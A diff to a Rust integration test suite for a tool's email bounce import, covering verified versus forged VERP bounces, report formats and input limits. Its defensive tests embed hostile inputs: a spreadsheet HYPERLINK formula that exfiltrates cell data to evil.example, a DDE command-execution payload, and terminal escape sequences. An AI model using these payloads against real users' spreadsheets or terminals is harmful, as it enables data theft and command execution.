@@ -1,6 +1,8 @@
 //! Bounces end to end: import from a Maildir, mbox, SES JSON and CSV; attribution by VERP token,
-//! returned Message-ID and address; the flag policy; the review in four formats; resolve and
-//! show; flagged contacts skipped by the next notice; a 5xx at send time as a bounce.
+//! returned Message-ID and address; only verified bounces flag (a forged or missing token leaves
+//! the contact receiving notices, listed as unverified); the flag policy; the review in four
+//! formats; resolve and show; flagged contacts skipped by the next notice; a 5xx at send time as
+//! a bounce; hostile text in the output; streamed mbox input.
 
 use std::path::{Path, PathBuf};
 
@@ -95,7 +97,7 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
             dsn(&a_verp, "j.obrien@exchange.austintexas.gov", "5.1.1", "550 5.1.1 User unknown", None),
             // B: the returned headers carry the Message-ID.
             dsn(plain, bb, "5.1.10", "550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup", Some(&b_mid)),
-            // C: nothing but the address.
+            // C: nothing but the address: unverified, never flags.
             dsn(plain, c, "5.1.1", "550 5.1.1 <kevin.le@austintexas.gov>: Recipient address rejected: User unknown", None),
             dsn(plain, unknown, "5.1.1", "550 5.1.1 User unknown", None),
             // Not a bounce.
@@ -109,6 +111,7 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
     assert_eq!(s["hard"], 4);
     assert_eq!(s["not_bounces"], 1);
     assert_eq!(s["unmatched"], 1);
+    assert_eq!(s["unverified"], 2, "C and the unknown address: {s}");
     let mut flagged: Vec<&str> = s["flagged"]
         .as_array()
         .unwrap()
@@ -116,7 +119,7 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
         .map(|v| v.as_str().unwrap())
         .collect();
     flagged.sort();
-    assert_eq!(flagged, [a, c, bb]);
+    assert_eq!(flagged, [a, bb]);
 
     // The same mailbox again changes nothing.
     let again = env.import_bounces(&[md.to_str().unwrap()]).await;
@@ -128,7 +131,8 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
     let report = env.run(&["bounces", "report", "--format", "json"]).await;
     report.ok();
     let rows = json_rows(&report.stdout);
-    assert_eq!(rows.len(), 3);
+    assert_eq!(rows.len(), 2);
+    assert!(rows.iter().all(|r| r["email"] != c));
     let row = |e: &str| rows.iter().find(|r| r["email"] == e).unwrap().clone();
     assert_eq!(row(a)["bounces"], 1);
     assert_eq!(row(a)["reason"], "user-unknown");
@@ -141,15 +145,10 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
         row(bb)["notices"],
         serde_json::json!(["release-notes/v3.12.0"])
     );
-    assert_eq!(row(c)["notices"], serde_json::json!([]));
     assert!(row(bb)["last_diagnostic"]
         .as_str()
         .unwrap()
         .contains("RecipientNotFound"));
-    assert!(row(c)["action"]
-        .as_str()
-        .unwrap()
-        .starts_with("deactivate in Moped"));
     let csv_out = env.run(&["bounces", "report", "--format", "csv"]).await;
     csv_out.ok();
     let mut rdr = csv::Reader::from_reader(csv_out.stdout.as_bytes());
@@ -158,7 +157,14 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
         .unwrap()
         .iter()
         .any(|h| h == "last_diagnostic"));
-    assert_eq!(rdr.records().count(), 3);
+    let records: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
+    // The two accounts, an empty record, the unverified heading, its header, C's bounce.
+    assert_eq!(records.len(), 6, "{}", csv_out.stdout);
+    assert!(records[2].iter().all(str::is_empty));
+    assert!(records[3][0].starts_with("Unverified bounces"));
+    assert_eq!(&records[4][0], "email");
+    assert_eq!(&records[5][0], c);
+    assert_eq!(&records[5][11], "no token and no Message-ID of ours");
     let html = env.run(&["bounces", "report", "--format", "html"]).await;
     html.ok();
     assert!(html.stdout.starts_with("<!DOCTYPE html>") && html.stdout.contains("<table>"));
@@ -166,22 +172,39 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
     for e in [a, bb, c] {
         assert!(html.stdout.contains(e));
     }
+    let unverified_at = html
+        .stdout
+        .find("<h2>Unverified bounces")
+        .expect("own heading");
+    assert!(html.stdout[unverified_at..].contains(c));
+    assert!(!html.stdout[unverified_at..].contains(a));
     let table = env.run(&["bounces", "report"]).await;
     table.ok();
     assert!(
-        table.stdout.contains("3 accounts to update"),
+        table.stdout.contains("2 accounts to update"),
         "{}",
         table.stdout
     );
     assert!(table.stdout.contains("1 bounce(s) matched no contact"));
+    let (flagged_part, unverified_part) = table
+        .stdout
+        .split_once("Unverified bounces")
+        .expect("an unverified section");
+    assert!(!flagged_part.contains(c), "{}", table.stdout);
+    assert!(
+        unverified_part.contains(c) && unverified_part.contains("no token and no Message-ID"),
+        "{}",
+        table.stdout
+    );
     for line in table.stdout.lines() {
         assert!(line.chars().count() <= 120, "table fits a terminal: {line}");
     }
 
-    // The next notice skips the flagged contacts (all three are users) and counts them.
+    // The next notice skips the flagged contacts (both are users) and counts them; C, with
+    // only an unverified bounce, gets it.
     let run = env.run(&["maintenance-end", "--format", "json"]).await;
     run.ok();
-    assert_eq!(run.summary()["skipped"], 3);
+    assert_eq!(run.summary()["skipped"], 2);
     let written: Vec<String> = std::fs::read_dir(env.outbox())
         .unwrap()
         .flatten()
@@ -194,12 +217,13 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
         .map(|f| f.file_name().to_string_lossy().into_owned())
         .collect();
     assert!(!written.is_empty());
-    for e in [a, bb, c] {
+    for e in [a, bb] {
         assert!(
             !written.iter().any(|f| f.ends_with(&format!("-{e}.eml"))),
             "{e} skipped"
         );
     }
+    assert!(written.iter().any(|f| f.ends_with(&format!("-{c}.eml"))));
 
     // Resolve one: kept in history, flag lifted, gone from the review.
     env.run(&[
@@ -216,7 +240,7 @@ async fn import_attribute_flag_review_resolve(b: Backend) {
             .await
             .stdout,
     );
-    assert_eq!(rows.len(), 2);
+    assert_eq!(rows.len(), 1);
     let show = env.run(&["bounces", "show", a]).await;
     show.ok();
     assert!(
@@ -335,12 +359,32 @@ async fn soft_bounces_flag_after_three_and_ses_and_csv_are_read(b: Backend) {
     run.ok();
     assert_eq!(run.summary()["bounces"], 2);
     assert_eq!(run.summary()["not_bounces"], 1);
+    // Neither a token nor a Message-ID of ours: both unverified, nobody newly flagged.
+    assert_eq!(run.summary()["unverified"], 2);
+    assert_eq!(run.summary()["flagged"], serde_json::json!([]));
     let rows = json_rows(
         &env.run(&["bounces", "report", "--format", "json"])
             .await
             .stdout,
     );
-    assert_eq!(rows.len(), 3);
+    assert_eq!(rows.len(), 1);
+    let unverified = json_rows(
+        &env.run(&["bounces", "report", "--unverified", "--format", "json"])
+            .await
+            .stdout,
+    );
+    let mut emails: Vec<&str> = unverified
+        .iter()
+        .map(|u| u["email"].as_str().unwrap())
+        .collect();
+    emails.sort();
+    assert_eq!(
+        emails,
+        [
+            "ben.kowalski@austintexas.gov",
+            "dana.whitfield@austintexas.gov"
+        ]
+    );
 
     // An mbox with the same SES-free DSN twice counts once.
     let m = dsn(
@@ -379,6 +423,7 @@ async fn a_5xx_at_send_time_is_a_bounce_and_the_next_notice_skips_it(b: Backend)
         "2026-12-03 17:00",
         "--end",
         "2026-12-03 19:00",
+        "--allow-past",
         "--smtp-url",
         &server.url(),
     ])
@@ -599,4 +644,539 @@ async fn imap_import_moves_recognised_bounces_and_leaves_the_rest() {
     let run = env.run(&["bounces", "import", "--imap", &url]).await;
     run.code(1);
     assert!(!run.stderr.contains("not-the-password"), "{}", run.stderr);
+}
+
+/// The envelope sender and Message-ID of the message smtp-sink received for `rcpt`.
+fn sink_envelope(sink: &SmtpSink, rcpt: &str) -> (String, String) {
+    let m = sink
+        .messages()
+        .into_iter()
+        .find(|m| m.rcpt_to.iter().any(|r| r.eq_ignore_ascii_case(rcpt)))
+        .unwrap_or_else(|| panic!("no message for {rcpt}"));
+    let text = String::from_utf8_lossy(&m.raw).into_owned();
+    let mid = text
+        .lines()
+        .find_map(|l| l.strip_prefix("Message-ID: "))
+        .expect("a Message-ID")
+        .trim()
+        .to_string();
+    (m.mail_from, mid)
+}
+
+/// Did smtp-sink receive a message for `rcpt`?
+fn received(sink: &SmtpSink, rcpt: &str) -> bool {
+    sink.messages()
+        .iter()
+        .any(|m| m.rcpt_to.iter().any(|r| r.eq_ignore_ascii_case(rcpt)))
+}
+
+async fn forged_and_tokenless_bounces_never_flag_a_genuine_one_does(b: Backend) {
+    let env = Env::new(b).await;
+    let sink = SmtpSink::start();
+    env.send_json(&["release-notes", "v3.12.0"], &sink.url())
+        .await
+        .ok();
+    let genuine = "james.obrien@austintexas.gov";
+    let forged = "priya.raman@austintexas.gov";
+    let tokenless = "kevin.le@austintexas.gov";
+    let by_ses = "emily.sato@austintexas.gov";
+    let (genuine_verp, _) = sink_envelope(&sink, genuine);
+    assert!(genuine_verp.starts_with("moped-bounces+"), "{genuine_verp}");
+    // The forger knows the scheme and the victim's send id but not the secret: the last hex
+    // digit of the MAC changed.
+    let (real, _) = sink_envelope(&sink, forged);
+    let (local, domain) = real.split_once('@').unwrap();
+    let last = local.chars().last().unwrap();
+    let swapped = if last == '0' { '1' } else { '0' };
+    let forged_verp = format!("{}{swapped}@{domain}", &local[..local.len() - 1]);
+    let (_, ses_mid) = sink_envelope(&sink, by_ses);
+    let md = maildir(
+        env.path(),
+        &[
+            dsn(
+                &genuine_verp,
+                genuine,
+                "5.1.1",
+                "550 5.1.1 User unknown",
+                None,
+            ),
+            dsn(
+                &forged_verp,
+                forged,
+                "5.1.1",
+                "550 5.1.1 User unknown",
+                None,
+            ),
+            dsn(
+                "moped-bounces@austintexas.gov",
+                tokenless,
+                "5.1.1",
+                "550 5.1.1 User unknown",
+                Some("<not-ours@elsewhere.example>"),
+            ),
+        ],
+    );
+    // SES: no token either, but the notification's mail object carries our Message-ID.
+    let ses = serde_json::json!({
+        "notificationType": "Bounce",
+        "bounce": {"feedbackId": "fb-ours", "bounceType": "Permanent", "bounceSubType": "General",
+            "timestamp": "2026-12-03T23:10:00.000Z",
+            "bouncedRecipients": [{"emailAddress": by_ses, "status": "5.1.1", "diagnosticCode": "smtp; 550 5.1.1 user unknown"}]},
+        "mail": {"source": "moped-bounces@austintexas.gov", "destination": [by_ses],
+                 "commonHeaders": {"messageId": ses_mid}}
+    });
+    let ses_path = env.path().join("ses.json");
+    std::fs::write(&ses_path, ses.to_string()).unwrap();
+    let run = env
+        .import_bounces(&[md.to_str().unwrap(), ses_path.to_str().unwrap()])
+        .await;
+    run.ok();
+    let s = run.summary();
+    assert_eq!(s["bounces"], 4, "{s}");
+    assert_eq!(s["hard"], 4, "{s}");
+    assert_eq!(s["unverified"], 2, "{s}");
+    let mut flagged: Vec<&str> = s["flagged"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| v.as_str().unwrap())
+        .collect();
+    flagged.sort();
+    assert_eq!(flagged, [by_ses, genuine], "{s}");
+
+    // JSON stays the flagged accounts only.
+    let rows = json_rows(
+        &env.run(&["bounces", "report", "--format", "json"])
+            .await
+            .stdout,
+    );
+    let mut emails: Vec<&str> = rows.iter().map(|r| r["email"].as_str().unwrap()).collect();
+    emails.sort();
+    assert_eq!(emails, [by_ses, genuine]);
+    // The table lists the unverified ones under their own heading, with why.
+    let table = env.run(&["bounces", "report"]).await;
+    table.ok();
+    let (flagged_part, unverified_part) = table
+        .stdout
+        .split_once("Unverified bounces")
+        .unwrap_or_else(|| panic!("no unverified section:\n{}", table.stdout));
+    assert!(
+        flagged_part.contains("2 accounts to update"),
+        "{}",
+        table.stdout
+    );
+    assert!(!flagged_part.contains(forged) && !flagged_part.contains(tokenless));
+    let line_of = |e: &str| {
+        unverified_part
+            .lines()
+            .find(|l| l.contains(e))
+            .unwrap_or_else(|| panic!("{e} not listed:\n{}", table.stdout))
+            .to_string()
+    };
+    assert!(line_of(forged).contains("VERP token failed its check"));
+    assert!(line_of(tokenless).contains("no token, and the returned Message-ID is not one of ours"));
+    let unverified = env
+        .run(&["bounces", "report", "--unverified", "--format", "json"])
+        .await;
+    unverified.ok();
+    let rows = json_rows(&unverified.stdout);
+    assert_eq!(rows.len(), 2, "{}", unverified.stdout);
+    let why = |e: &str| {
+        rows.iter()
+            .find(|r| r["email"] == e)
+            .map(|r| r["why"].as_str().unwrap().to_string())
+            .unwrap()
+    };
+    assert_eq!(why(forged), "VERP token failed its check");
+    assert!(why(tokenless).starts_with("no token"));
+    let only = env.run(&["bounces", "report", "--unverified"]).await;
+    only.ok();
+    assert!(only.stdout.contains("Unverified bounces") && !only.stdout.contains(genuine));
+    let show = env.run(&["bounces", "show", forged]).await;
+    assert!(
+        show.stdout.contains("UNVERIFIED")
+            && show
+                .stdout
+                .contains("unverified (not counted): VERP token failed its check"),
+        "{}",
+        show.stdout
+    );
+    let show = env.run(&["bounces", "show", genuine]).await;
+    assert!(!show.stdout.contains("UNVERIFIED"), "{}", show.stdout);
+
+    // The next notice reaches the forged and token-less ones, not the flagged ones.
+    let next = SmtpSink::start();
+    let run = env
+        .send_json(&["maintenance-start", "--until", "23:59"], &next.url())
+        .await;
+    run.ok();
+    assert_eq!(run.summary()["skipped"], 2, "{}", run.stdout);
+    assert!(received(&next, forged), "forged: still receives");
+    assert!(received(&next, tokenless), "token-less: still receives");
+    assert!(!received(&next, genuine), "genuine: skipped");
+    assert!(!received(&next, by_ses), "SES with our Message-ID: skipped");
+
+    // Unverified soft bounces do not add up to a flag either.
+    let soft: Vec<String> = (0..4)
+        .map(|i| {
+            dsn(
+                "moped-bounces@austintexas.gov",
+                forged,
+                "4.2.2",
+                &format!("452 4.2.2 Mailbox full ({i})"),
+                None,
+            )
+        })
+        .collect();
+    let soft_dir = env.path().join("soft");
+    std::fs::create_dir_all(&soft_dir).unwrap();
+    for (i, m) in soft.iter().enumerate() {
+        std::fs::write(soft_dir.join(format!("{i}.eml")), m).unwrap();
+    }
+    let run = env.import_bounces(&[soft_dir.to_str().unwrap()]).await;
+    run.ok();
+    assert_eq!(run.summary()["unverified"], 4, "{}", run.stdout);
+    assert_eq!(run.summary()["flagged"], serde_json::json!([]));
+    env.cleanup().await;
+}
+both!(forged_and_tokenless_bounces_never_flag_a_genuine_one_does);
+
+async fn a_csv_row_that_does_not_say_hard_or_soft_is_refused(b: Backend) {
+    let env = Env::new(b).await;
+    env.run(&[
+        "contacts",
+        "import",
+        env.path().join("contacts.csv").to_str().unwrap(),
+    ])
+    .await
+    .ok();
+    let csv_path = env.path().join("vague.csv");
+    std::fs::write(
+        &csv_path,
+        "email,type,reason\nkevin.le@austintexas.gov,hard,550 5.1.1 user unknown\nhannah.fischer@austintexas.gov,,\nemily.sato@austintexas.gov,,something went wrong\n",
+    )
+    .unwrap();
+    let run = env
+        .run(&["bounces", "import", csv_path.to_str().unwrap()])
+        .await;
+    run.code(2);
+    assert!(
+        run.stderr.contains("vague.csv:3:") && run.stderr.contains("no type and no reason"),
+        "{}",
+        run.stderr
+    );
+    assert!(
+        run.stderr.contains("vague.csv:4:") && run.stderr.contains("something went wrong"),
+        "{}",
+        run.stderr
+    );
+    // Nothing imported, not even the good row.
+    let show = env
+        .run(&["bounces", "show", "kevin.le@austintexas.gov"])
+        .await;
+    show.ok();
+    assert!(show.stdout.contains("bounces (0):"), "{}", show.stdout);
+    assert_eq!(
+        json_rows(
+            &env.run(&["bounces", "report", "--format", "json"])
+                .await
+                .stdout
+        )
+        .len(),
+        0
+    );
+    // Without a type column a recognised reason decides; an admin's CSV needs no token.
+    std::fs::write(
+        &csv_path,
+        "email,reason\nkevin.le@austintexas.gov,550 5.1.1 user unknown\nhannah.fischer@austintexas.gov,552 5.2.2 mailbox full\n",
+    )
+    .unwrap();
+    let run = env.import_bounces(&[csv_path.to_str().unwrap()]).await;
+    run.ok();
+    assert_eq!(run.summary()["hard"], 1);
+    assert_eq!(run.summary()["soft"], 1);
+    assert_eq!(run.summary()["unverified"], 0);
+    assert_eq!(
+        run.summary()["flagged"],
+        serde_json::json!(["kevin.le@austintexas.gov"])
+    );
+    env.cleanup().await;
+}
+both!(a_csv_row_that_does_not_say_hard_or_soft_is_refused);
+
+async fn review_csv_cells_cannot_become_formulas(b: Backend) {
+    let env = Env::new(b).await;
+    env.run(&[
+        "contacts",
+        "import",
+        env.path().join("contacts.csv").to_str().unwrap(),
+    ])
+    .await
+    .ok();
+    let csv_path = env.path().join("b.csv");
+    std::fs::write(
+        &csv_path,
+        "email,type,reason\nkevin.le@austintexas.gov,hard,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\") 550 5.1.1 user unknown\"\n",
+    )
+    .unwrap();
+    env.import_bounces(&[csv_path.to_str().unwrap()]).await.ok();
+    // An unverified bounce whose diagnostic starts with @ (a DSN with no token).
+    let md = maildir(
+        env.path(),
+        &[dsn(
+            "moped-bounces@austintexas.gov",
+            "emily.sato@austintexas.gov",
+            "5.1.1",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            None,
+        )],
+    );
+    env.import_bounces(&[md.to_str().unwrap()]).await.ok();
+    let out = env.run(&["bounces", "report", "--format", "csv"]).await;
+    out.ok();
+    let mut rdr = csv::ReaderBuilder::new()
+        .flexible(true)
+        .from_reader(out.stdout.as_bytes());
+    let records: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
+    let cells: Vec<&str> = records.iter().flat_map(|r| r.iter()).collect();
+    assert!(
+        cells.contains(
+            &"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") 550 5.1.1 user unknown"
+        ),
+        "{}",
+        out.stdout
+    );
+    assert!(
+        cells.iter().any(|c| c.starts_with("'@SUM(1+1)")),
+        "{}",
+        out.stdout
+    );
+    for c in &cells {
+        assert!(
+            !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would evaluate: {c:?}"
+        );
+    }
+    let only = env
+        .run(&["bounces", "report", "--unverified", "--format", "csv"])
+        .await;
+    only.ok();
+    assert!(only.stdout.contains("'@SUM(1+1)"), "{}", only.stdout);
+    assert!(!only.stdout.contains(",@SUM"), "{}", only.stdout);
+    env.cleanup().await;
+}
+both!(review_csv_cells_cannot_become_formulas);
+
+async fn escape_sequences_from_mail_are_never_printed_raw(b: Backend) {
+    let env = Env::new(b).await;
+    env.run(&[
+        "contacts",
+        "import",
+        env.path().join("contacts.csv").to_str().unwrap(),
+    ])
+    .await
+    .ok();
+    let victim = "kevin.le@austintexas.gov";
+    let hostile = "550 5.1.1 \u{1b}[2J\u{1b}]0;owned\u{7}User unknown\u{9b}31m \u{202e}gnp.exe";
+    let m = dsn(
+        "moped-bounces@austintexas.gov",
+        victim,
+        "5.1.1",
+        hostile,
+        None,
+    )
+    .replace(
+        "Subject: Undelivered",
+        "X-Evil: \u{1b}[31mred\u{1b}[0m\r\nSubject: Undelivered",
+    );
+    let file = env.path().join("hostile.eml");
+    std::fs::write(&file, &m).unwrap();
+    let raw_escape = |s: &str| {
+        s.chars()
+            .any(|c| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}')
+    };
+    for format in ["table", "json"] {
+        let parse = env
+            .run(&[
+                "bounces",
+                "parse",
+                "--format",
+                format,
+                file.to_str().unwrap(),
+            ])
+            .await;
+        parse.ok();
+        assert!(
+            !raw_escape(&parse.stdout),
+            "parse {format}: {:?}",
+            parse.stdout
+        );
+        assert!(parse.stdout.contains(victim), "{}", parse.stdout);
+    }
+    // JSON keeps the text, escaped: parsed back, it is what the mail said.
+    let json = env
+        .run(&[
+            "bounces",
+            "parse",
+            "--format",
+            "json",
+            file.to_str().unwrap(),
+        ])
+        .await;
+    let v: serde_json::Value = serde_json::from_str(json.stdout.trim()).unwrap();
+    let diag = v["bounces"][0]["diagnostic"].as_str().unwrap();
+    assert!(
+        diag.contains('\u{1b}') && diag.contains('\u{202e}'),
+        "{diag:?}"
+    );
+    let table = env.run(&["bounces", "parse", file.to_str().unwrap()]).await;
+    assert!(table.stdout.contains("\\x1b[2J"), "{}", table.stdout);
+
+    env.import_bounces(&[file.to_str().unwrap()]).await.ok();
+    for args in [
+        vec!["bounces", "show", victim],
+        vec!["bounces", "show", victim, "--raw"],
+        vec!["bounces", "report"],
+        vec!["bounces", "report", "--unverified"],
+        vec!["bounces", "report", "--format", "html"],
+        vec!["bounces", "report", "--unverified", "--format", "json"],
+    ] {
+        let run = env.run(&args).await;
+        run.ok();
+        assert!(!raw_escape(&run.stdout), "{args:?}: {:?}", run.stdout);
+        assert!(run.stdout.contains(victim), "{args:?}: {}", run.stdout);
+    }
+    let raw = env.run(&["bounces", "show", victim, "--raw"]).await;
+    assert!(
+        raw.stdout.contains("X-Evil: \\x1b[31mred"),
+        "{}",
+        raw.stdout
+    );
+    env.cleanup().await;
+}
+both!(escape_sequences_from_mail_are_never_printed_raw);
+
+#[tokio::test]
+async fn an_mbox_is_read_as_a_stream_from_a_file_and_from_stdin() {
+    let env = Env::new(Backend::Sqlite).await;
+    let m = dsn(
+        "moped-bounces@austintexas.gov",
+        "sofia.herrera@austintexas.gov",
+        "5.1.1",
+        "550 5.1.1 User unknown",
+        None,
+    )
+    .replace("\r\n", "\n");
+    // 300 bounces, one over the size limit in the middle, and a `>From ` line.
+    let mut mbox = String::new();
+    for i in 0..300 {
+        mbox.push_str("From MAILER-DAEMON Thu Dec  3 17:20:00 2026\n");
+        if i == 150 {
+            mbox.push_str(&"x".repeat(11 * 1024 * 1024));
+            mbox.push('\n');
+        } else {
+            mbox.push_str(&m.replace("Undelivered Mail", &format!("Undelivered Mail {i}")));
+            mbox.push_str(">From the body\n");
+        }
+        mbox.push('\n');
+    }
+    let path = env.path().join("big.mbox");
+    std::fs::write(&path, &mbox).unwrap();
+    let run = env
+        .run(&[
+            "bounces",
+            "parse",
+            "--format",
+            "json",
+            path.to_str().unwrap(),
+        ])
+        .await;
+    run.ok();
+    let lines: Vec<serde_json::Value> = run
+        .stdout
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 300);
+    assert_eq!(lines[0]["source"], format!("{}:1", path.display()));
+    assert_eq!(
+        lines[0]["bounces"][0]["address"],
+        "sofia.herrera@austintexas.gov"
+    );
+    assert_eq!(lines[150]["bounces"], serde_json::json!([]));
+    assert!(
+        run.stderr
+            .contains(&format!("skipped {}:151", path.display()))
+            && run.stderr.contains("limit"),
+        "{}",
+        run.stderr
+    );
+    // The same through standard input.
+    let mut cmd = tokio::process::Command::new(crate::harness::BIN);
+    let mut child = cmd
+        .args(["bounces", "parse", "--format", "json", "-"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let bytes = mbox.into_bytes();
+    let writer = tokio::spawn(async move {
+        use tokio::io::AsyncWriteExt;
+        stdin.write_all(&bytes).await.unwrap();
+    });
+    let out = child.wait_with_output().await.unwrap();
+    writer.await.unwrap();
+    assert!(out.status.success());
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(stdout.lines().count(), 300);
+    assert!(stdout
+        .lines()
+        .next()
+        .unwrap()
+        .contains("\"source\":\"-:1\""));
+    // Imported: 299 bounces of one address, every message its own source.
+    let run = env.import_bounces(&[path.to_str().unwrap()]).await;
+    run.ok();
+    assert_eq!(run.summary()["read"], 300);
+    assert_eq!(run.summary()["skipped"], 1);
+    assert_eq!(run.summary()["bounces"], 299);
+}
+
+#[tokio::test]
+async fn input_that_never_ends_a_line_is_skipped_not_read_into_memory() {
+    let env = Env::new(Backend::Sqlite).await;
+    // /dev/zero: read up to the limit and skipped, by path and through standard input.
+    let run = env
+        .run(&["bounces", "parse", "--format", "json", "/dev/zero"])
+        .await;
+    run.ok();
+    assert!(
+        run.stderr.contains("skipped /dev/zero") && run.stderr.contains("limit"),
+        "{}",
+        run.stderr
+    );
+    let out = tokio::process::Command::new(crate::harness::BIN)
+        .args(["bounces", "parse", "-"])
+        .stdin(std::fs::File::open("/dev/zero").unwrap())
+        .output()
+        .await
+        .unwrap();
+    assert!(out.status.success());
+    assert!(String::from_utf8_lossy(&out.stderr).contains("skipped -"));
+    // A CSV over the limit is refused with its name.
+    let csv = env.path().join("huge.csv");
+    let mut data = String::from("email,type,reason\n");
+    while data.len() <= 10 * 1024 * 1024 {
+        data.push_str("kevin.le@austintexas.gov,hard,550 5.1.1 user unknown\n");
+    }
+    std::fs::write(&csv, data).unwrap();
+    let run = env.run(&["bounces", "import", csv.to_str().unwrap()]).await;
+    run.code(2);
+    assert!(
+        run.stderr.contains("huge.csv") && run.stderr.contains("split it"),
+        "{}",
+        run.stderr
+    );
 }
